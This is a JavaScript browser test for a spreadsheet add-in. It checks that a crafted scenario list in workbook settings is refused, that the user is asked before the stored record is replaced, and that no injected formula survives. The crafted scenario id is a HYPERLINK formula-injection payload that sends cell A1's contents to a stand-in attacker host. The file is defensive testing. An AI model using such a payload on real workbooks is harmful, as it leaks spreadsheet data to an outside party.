// A workbook from elsewhere, in the built pane: its crafted scenario list is refused, the pane
// says so, and everything else still works.
import assert from "node:assert/strict";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { launch, openPane, RESULTS } from "./harness.mjs";

const CRAFTED_ID = 'A1,HYPERLINK("https://attacker.example/?"&Sheet1!A1)';
const INPUTS = { cash: 20e9, monthlyBurn: 1e9, burnGrowth: 0, monthlyRevenue: 0, revenueGrowth: 0, startYear: 2025 };
const SETTINGS = {
  "ComputeAlliances.scenarios": [
    { id: CRAFTED_ID, name: "Stolen", inputs: INPUTS },
    { id: "Base", name: "Base", inputs: INPUTS },
  ],
};

describe("a workbook with a crafted scenario list", () => {
  let browser;
  before(async () => {
    browser = await launch();
  });
  after(async () => {
    await browser?.close();
  });

  it("shows the refusal, asks before replacing the list, and still works", async () => {
    const { page, context, failures } = await openPane(browser, { host: "excel", settings: SETTINGS });
    await page.getByRole("tab", { name: "Scenarios" }).click();
    await page
      .getByText(/scenario list was made by another tool or another version of this add-in; entries ignored: 1/)
      .waitFor();
    await page.getByRole("button", { name: "Open Base" }).waitFor();
    await page.screenshot({ path: join(RESULTS, "pane-scenarios-refused.png"), fullPage: true });

    await page.getByRole("button", { name: "Create scenario sheet" }).click();
    const dialog = page.getByRole("dialog", { name: "Replace the stored record?" });
    await dialog.getByRole("button", { name: "Replace and continue" }).click();
    await page.getByText("Created Scenario xAI, and updated the comparison and the AI share outlook.").waitFor();

    const state = await page.evaluate(() => {
      const workbook = globalThis.__FAKE_WORKBOOK__;
      return {
        stored: workbook.settings.get("ComputeAlliances.scenarios").map((s) => s.id),
        names: workbook.names.map((n) => n.name),
        dump: JSON.stringify(workbook.dump()),
      };
    });
    assert.deepEqual(state.stored, ["Base", "xAI"]);
    assert.ok(state.names.every((name) => !name.includes("HYPERLINK")));
    assert.ok(!state.dump.includes("HYPERLINK"));
    // The Home view still inserts the tables.
    await page.getByRole("tab", { name: "Home" }).click();
    await page.getByRole("button", { name: "Insert all tables" }).click();
    await page.getByText("Done").waitFor();
    assert.deepEqual(failures, []);
    await context.close();
  });
});
